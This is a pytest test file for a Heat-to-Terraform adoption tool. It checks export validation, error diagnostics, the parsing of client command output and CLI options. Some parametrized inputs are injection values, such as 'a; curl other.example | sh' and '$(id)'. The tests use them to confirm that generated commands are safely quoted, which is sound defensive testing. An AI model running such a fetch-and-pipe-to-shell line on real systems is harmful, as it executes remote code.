"""Exports and the output of the client's commands are read as a whole or not at all, and mistakes have their place."""

from __future__ import annotations

import copy
import functools
import json
import pathlib
import shlex
from typing import Any

import pytest

import transpile
from tests.conftest import Run
from transpile.adoption import client, export
from transpile.adoption.lookups import Answers, CloudLookup, NoAnswer
from transpile.adoption.shell import quote_word
from transpile.diagnostics.model import Diagnostic
from transpile.model.budget import Budget
from transpile.model.source import Source

GOLDEN = pathlib.Path(__file__).parents[2] / "golden" / "adopt"
SMALL: dict[str, Any] = {
    "name": "web",
    "id": "6f0a",
    "action": "CREATE",
    "status": "COMPLETE",
    "environment": {"parameters": {}},
    "files": {},
    "template": {
        "heat_template_version": "2018-08-31",
        "resources": {"net": {"type": "OS::Neutron::Net", "properties": {"name": "web"}}},
    },
    "resources": {"net": {"type": "OS::Neutron::Net", "resource_id": "3354", "action": "CREATE", "status": "COMPLETE"}},
    "project_id": "9d1c",
}


def changed(path: str, value: Any) -> dict[str, Any]:
    """The small export with another value at a path; None removes it."""
    out = copy.deepcopy(SMALL)
    *above, last = path.split(".")
    inner = out
    for name in above:
        inner = inner[name]
    if value is None:
        del inner[last]
    else:
        inner[last] = value
    return out


def errors(text: str) -> list[tuple[str, int, str]]:
    """The errors of an adoption: codes, lines, messages. Nothing is written if there is one."""
    done = transpile.adopt(text)
    rows = [d.as_json() for d in done.diagnostics if d.severity == "error"]
    assert bool(rows) is not done.ok
    assert not (rows and done.files)
    return [(row["code"], row.get("line", 0), row["message"]) for row in rows]


def nest(stack: dict[str, Any], _: int) -> dict[str, Any]:
    """An export with a nested stack."""
    return SMALL | {"resources": {"net": stack}}


OPTION = "--os-auth-url=http://other.example/v3"


@pytest.mark.parametrize("key", ["id", "name", "parent"])
def test_a_stack_whose_name_or_id_would_be_an_option_is_refused(key: str) -> None:
    document = changed("name", "web") | {key: OPTION}
    assert errors(json.dumps(document)) == [
        ("HOT711", 1, f"No stack has this {key}: Heat gives none with such characters.")
    ]


@pytest.mark.parametrize("word", [OPTION, "a; curl other.example | sh", "$(id)", "plain"])
@pytest.mark.parametrize(
    "question",
    [
        ("server", "id"),
        ("port", "name"),
        ("port", "fixed_ips.ip_address"),
        ("security group rule", "security_group_id"),
        ("recordset", "zone_id"),
    ],
)
def test_a_word_of_the_input_is_one_argument_of_a_command_and_no_option(word: str, question: tuple[str, str]) -> None:
    kind, key = question
    words = shlex.split(CloudLookup(kind, ((key, word),)).command)
    at = next(i for i, each in enumerate(words) if word in each)
    assert words[at] in (word, f"--name={word}", f"ip-address={word}")
    assert not words[at].startswith(OPTION) or "--" in words[:at]
    assert not any(each.startswith("-") for each in shlex.split(quote_word(word))) or quote_word(word).startswith("-- ")


def test_a_physical_id_is_quoted_in_the_guide() -> None:
    document = changed("resources.net.resource_id", "a; curl other.example | sh")
    done = transpile.adopt(json.dumps(document))
    assert "show a; curl" not in str(done.files.get("ADOPT.md", ""))


def printed(document: dict[str, Any]) -> str:
    return json.dumps(document, indent=1) + "\n"


def test_a_whole_export_has_no_errors() -> None:
    assert errors(printed(SMALL)) == []


@pytest.mark.parametrize(
    ("path", "value", "code", "word"),
    [
        ("name", None, "HOT710", "name"),
        ("environment", None, "HOT710", "environment"),
        ("status", None, "HOT710", "status"),
        ("resources", [], "HOT711", "must be a map"),
        ("resources.net", 7, "HOT711", "resource net must be a map"),
        ("resources.net.metadata", [7], "HOT711", "metadata must be a map"),
        ("resources.net", functools.reduce(nest, range(8), SMALL), "HOT711", "more than 8 levels deep"),
        ("tags", 7, "HOT711", "tags must be a list"),
        ("name", "\ud800", "HOT102", "lone surrogate"),
        ("template", 7, "HOT711", "template must be a map"),
        ("resources.net.resource_id", 'a"b', "HOT711", "no ID"),
        ("resources.net.resource_id", "${net}", "HOT711", "no ID"),
        ("resources.net.resource_id", "%{net}", "HOT711", "no ID"),
        ("resources.net.resource_id", "a\nb", "HOT711", "no ID"),
        ("resources.net.resource_id", 7, "HOT711", "must be a string"),
        ("resources.net.type", "OS::Neutron::Router", "HOT712", "is of type"),
        ("resources.net.name", "other", "HOT711", "is called other"),
        ("resources.net", None, "HOT712", "no such resource"),
        ("template.resources.net.condition", False, "HOT712", "does not hold"),
        ("resources.more", SMALL["resources"]["net"] | {"resource_id": "4465"}, "HOT712", "the template does not"),
        ("resources.net.resource_id", None, "HOT746", "net"),
    ],
)
def test_bad_input_is_an_error(path: str, value: Any, code: str, word: str) -> None:
    rows = errors(printed(changed(path, value)))
    assert code in {error_code for error_code, _, _ in rows}
    assert any(word in message for _, _, message in rows)


def test_half_a_file_is_an_error_at_its_end() -> None:
    text = printed(SMALL)
    half = text[: len(text) // 2]
    ((code, line, _),) = errors(half)
    assert (code, line) == ("HOT101", half.count("\n") + 1)


def test_an_error_stands_in_the_line_of_the_resource() -> None:
    text = printed(changed("resources.net.resource_id", "${net}"))
    line = next(n for n, line_text in enumerate(text.splitlines(), 1) if "${net}" in line_text)
    assert [row[:2] for row in errors(text) if row[0] == "HOT711"] == [("HOT711", line)]


def test_diagnostics_of_the_template_stand_in_the_export() -> None:
    text = printed(changed("template.resources.net.properties", {"nmae": "web"}))
    line = next(n for n, line_text in enumerate(text.splitlines(), 1) if "nmae" in line_text)
    assert ("HOT301", line) in [row[:2] for row in errors(text)]


def test_the_same_id_twice_is_an_error() -> None:
    twice = changed("resources.more", SMALL["resources"]["net"])
    twice["template"]["resources"]["more"] = SMALL["template"]["resources"]["net"]
    assert any("same physical ID as net" in message for _, _, message in errors(printed(twice)))


def test_a_key_twice_is_an_error() -> None:
    text = printed(SMALL).replace('"resource_id": "3354"', '"resource_id": "3354", "resource_id": "4465"')
    assert any("resource_id twice" in message for _, _, message in errors(text))


def test_a_volume_and_its_attachment_share_an_id() -> None:
    """Heat gives the attachment the ID of the volume."""
    done = transpile.adopt(GOLDEN / "server" / "export.json")
    assert "HOT711" not in {d.code for d in done.diagnostics}


@pytest.mark.parametrize(
    "text", ["", "[]\n", "- a\n", "null\n", "{}\n", '{"name": "\\ud800"}\n', "[" * 100_000, "[" + "1" * 5000]
)
def test_a_file_that_is_no_export_is_an_error(text: str) -> None:
    assert errors(text)


def test_nested_stacks_are_where_their_resources_are() -> None:
    live, diagnostics = export.read_export(
        Source("export.json", (GOLDEN / "groups" / "export.json").read_text(encoding="utf-8"), budget=Budget())
    )
    assert diagnostics == []
    assert live is not None
    paths = {path for path, _ in live.walk_resources()}
    assert ("nodes", "3", "disk") in paths
    assert ("nodes", "1") not in paths
    assert live.resources["nodes"].physical_id == "00000003-0000-4000-8000-000000000000"


# the commands of the client


def documents() -> dict[str, Source]:
    folder = GOLDEN / "printed" / "source"
    return {
        path.stem: Source(path.name, path.read_text(encoding="utf-8"), budget=Budget()) for path in folder.iterdir()
    }


def test_rows_of_nested_stacks_belong_to_the_resources_whose_names_they_have() -> None:
    live, diagnostics = client.read_client_documents(documents(), Source("source", "", budget=Budget()))
    assert diagnostics == []
    assert live is not None
    assert [path for path, _ in live.walk_resources()] == [("net",), ("pair",), ("pair", "0"), ("image",)]


@pytest.mark.parametrize("name", client.REQUIRED_DOCUMENTS)
def test_a_missing_document_is_named_with_its_command(name: str) -> None:
    sources = {key: source for key, source in documents().items() if key != name}
    live, diagnostics = client.read_client_documents(sources, Source("source", "", budget=Budget()))
    assert live is None
    assert [(d.code, client.COMMANDS[name] in d.help()) for d in diagnostics] == [("HOT711", True)]


@pytest.mark.parametrize(
    ("name", "old", "new", "code", "message"),
    [
        ("resources", "printed-pair-xuwfzndswnvl", "printed-other-xuwfzndswnvl", "HOT711", "may belong to no resource"),
        ("resources", '"resource_name": "image"', '"resource_name": "net"', "HOT711", "has the resource net twice"),
        ("resources", '"resource_status"', '"status"', "HOT711", "it has no resource_status"),
        ("show", '"stack_status"', '"status"', "HOT710", "it has no stack_status"),
    ],
)
def test_a_wrong_document_is_an_error(name: str, old: str, new: str, code: str, message: str) -> None:
    sources = documents()
    text = sources[name].text.replace(old, new)
    live, diagnostics = client.read_client_documents(
        {**sources, name: Source(f"{name}.json", text, budget=Budget())}, Source("source", "", budget=Budget())
    )
    assert live is None
    assert {(d.code, message in d.message) for d in diagnostics} == {(code, True)}


# answers


def test_answers_are_those_of_the_question() -> None:
    lookup = CloudLookup("port", (("device_id", "r"), ("fixed_ips.subnet_id", "s")))
    row = {"id": "p", "device_id": "r", "fixed_ips": [{"subnet_id": "x"}, {"subnet_id": "s"}]}
    assert lookup.matches(row)
    assert not CloudLookup("port", (("fixed_ips.subnet_id", "y"),)).matches(row)
    saved = Answers({lookup: [row]})
    assert saved.ask(CloudLookup("port", tuple(reversed(lookup.filter)), "name")) == [row]
    with pytest.raises(NoAnswer, match="openstack port list --device-id q"):
        saved.ask(CloudLookup("port", (("device_id", "q"),)))


def test_saved_answers_are_read_back(tmp_path: pathlib.Path) -> None:
    lookup = CloudLookup("network", (("id", "n"),))
    text = json.dumps(Answers({lookup: [{"id": "n", "name": "a"}]}).as_json())
    diagnostics: list[Any] = []
    again = Answers(export.read_answers(Source("answers.json", text, budget=Budget()), diagnostics))
    assert diagnostics == []
    assert again.ask(lookup) == [{"id": "n", "name": "a"}]


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        ({"kind": "network"}, "An answer must have a kind, a filter and objects."),
        ({"kind": "network", "filter": {}, "objects": ["n"]}, "Each object of an answer must be a map."),
    ],
)
def test_a_wrong_answer_is_an_error(answer: dict[str, Any], message: str) -> None:
    text = json.dumps(Answers({}).as_json() | {"answers": [answer]})
    diagnostics: list[Diagnostic] = []
    assert export.read_answers(Source("answers.json", text, budget=Budget()), diagnostics) == {}
    assert [(d.code, d.severity, d.message) for d in diagnostics] == [("HOT719", "error", message)]


def test_a_command_is_quoted_for_a_shell() -> None:
    assert CloudLookup("network", (("id", "a b;c"),), "name").command.endswith("show 'a b;c' -f value -c name")


# the command


def test_the_command_writes_a_directory_for_each_export(command: Run, tmp_path: pathlib.Path) -> None:
    for name in ("one", "two"):
        text = printed(SMALL | {"name": name})
        (tmp_path / f"{name}.json").write_text(text, encoding="utf-8")
    exports = [str(tmp_path / f"{name}.json") for name in ("one", "two")]
    status, _, stderr = command("adopt", *exports, "-o", str(tmp_path / "out"))
    assert status == 0, stderr
    assert "1 import;" in stderr
    for name in ("one", "two"):
        assert 'id = "3354"' in (tmp_path / "out" / name / "imports.tf").read_text(encoding="utf-8")
        assert (tmp_path / "out" / name / ".hot2tf.json").exists()


def test_the_findings_of_an_adoption_can_be_chosen(command: Run, tmp_path: pathlib.Path) -> None:
    line = ("adopt", str(GOLDEN / "server" / "export.json"), "-o", str(tmp_path / "out"), "--force", "-v")
    answers = ("--answers", str(GOLDEN / "server" / "answers.json"))
    every = command(*line, *answers)[2]
    assert "HOT411" in every
    assert "HOT520" in every
    kept = command(*line, *answers, "--select", "HOT4")[2]
    assert "HOT411" in kept
    assert "HOT520" not in kept
    assert "HOT411" not in command(*line, *answers, "--ignore", "HOT4")[2]


@pytest.mark.parametrize(
    "arguments",
    [
        (),
        ("--all",),
        ("a.json", "--save", "x"),
        ("a.json", "b.json"),
        ("x/a.json", "y/a.json", "-o", "out"),
        ("a.json", "b.json", "-o", "out", "--template", "t.yaml"),
    ],
)
def test_options_that_do_not_go_together_are_wrong_usage(command: Run, arguments: tuple[str, ...]) -> None:
    assert command("adopt", *arguments)[0] == 2


def test_nothing_is_written_for_an_export_with_errors(command: Run, tmp_path: pathlib.Path) -> None:
    (tmp_path / "a.json").write_text(printed(changed("resources.net", None)), encoding="utf-8")
    report = tmp_path / "report.json"
    status, _, stderr = command("adopt", str(tmp_path / "a.json"), "-o", str(tmp_path / "out"), "--report", str(report))
    assert (status, (tmp_path / "out").exists()) == (1, False)
    assert "HOT712" in stderr
    assert json.loads(report.read_text(encoding="utf-8"))["files"] == []


# the template of a repository

TEMPLATE = """heat_template_version: 2018-08-31
# the same, in other words
resources:
  net: {properties: {tags: [%s], name: %s}, type: "OS::Neutron::Net"}
"""


@pytest.mark.parametrize(
    ("tag", "name", "differs"), [("a", "web", False), ("a", "other", True), ("b", "web", True), ("'a'", "web", False)]
)
def test_templates_are_compared_by_their_meaning(tag: str, name: str, differs: bool) -> None:
    stored = changed("template.resources.net.properties.tags", ["a"])
    done = transpile.adopt(printed(stored), template=TEMPLATE % (tag, name))
    assert ("HOT713" in {d.code for d in done.diagnostics}) is differs
    assert done.ok
    assert f'name = "{name}"' in str(done.files["main.tf"])


@pytest.mark.parametrize(
    ("flag", "value"), [("-e", "missing.yaml"), ("--environment", "env.yaml"), ("--root", "nowhere"), ("--allow", ".")]
)
def test_options_of_a_template_need_one(flag: str, value: str, tmp_path: pathlib.Path, command: Run) -> None:
    """Without --template, nothing reads these options."""
    (tmp_path / "web.json").write_text(printed(SMALL))
    out = tmp_path / "out"
    ended = command("adopt", str(tmp_path / "web.json"), "-o", str(out), flag, value)
    assert (ended.status, "takes --template" in ended.err, out.exists()) == (2, True, False)
    assert command("adopt", str(tmp_path / "web.json"), "-o", str(out)).status == 0


# several stacks in one file


def exports_in_one_file(form: str) -> str:
    """Two exports, `web` and `db`, in one of the forms in which they come together."""
    one, two = SMALL, {**SMALL, "name": "db", "id": "9f1e"}
    if form == "list":
        return json.dumps([one, two], indent=1)
    if form == "map":
        return printed({"stacks": [one, two]})
    return f"{printed(one)}\n\n{printed(two)}\n"


@pytest.mark.parametrize("form", ["list", "map", "stream"])
def test_each_stack_of_a_file_gets_a_directory(form: str, command: Run, tmp_path: pathlib.Path) -> None:
    """A place in a finding is that in the whole file."""
    (tmp_path / "all.json").write_text(exports_in_one_file(form), encoding="utf-8")
    ended = command("adopt", str(tmp_path / "all.json"), "-o", str(tmp_path / "out"))
    assert ended.status == 0, ended.err
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["db", "web"]
    broken = exports_in_one_file(form).replace('"9f1e"', "5")
    (tmp_path / "all.json").write_text(broken, encoding="utf-8")
    ended = command("adopt", str(tmp_path / "all.json"), "-o", str(tmp_path / "other"))
    line = broken[: broken.index('"id": 5')].count("\n") + 1
    assert f"all.json:{line}:" in ended.err
    assert sorted(path.name for path in (tmp_path / "other").iterdir()) == ["web"]


def test_stacks_of_a_file_become_environments(command: Run, tmp_path: pathlib.Path) -> None:
    (tmp_path / "all.json").write_text(exports_in_one_file("list"), encoding="utf-8")
    ended = command("adopt", str(tmp_path / "all.json"), "-o", str(tmp_path / "out"), "--environments", "files")
    assert ended.status == 0, ended.err
    assert {path.name for path in (tmp_path / "out" / "environments").glob("*.tfvars")} == {"db.tfvars", "web.tfvars"}


def test_two_stacks_of_one_name_in_a_file_are_wrong_usage(command: Run, tmp_path: pathlib.Path) -> None:
    (tmp_path / "all.json").write_text(json.dumps([SMALL, SMALL]), encoding="utf-8")
    ended = command("adopt", str(tmp_path / "all.json"), "-o", str(tmp_path / "out"))
    assert (ended.status, "has two stacks called web" in ended.err) == (2, True)


def test_an_export_without_the_id_of_its_stack_is_read() -> None:
    """The commands of ADOPT.md then name the stack."""
    done = transpile.adopt(printed({key: value for key, value in SMALL.items() if key != "id"}))
    assert done.ok
    assert "openstack stack show web -c" in str(done.files["ADOPT.md"])
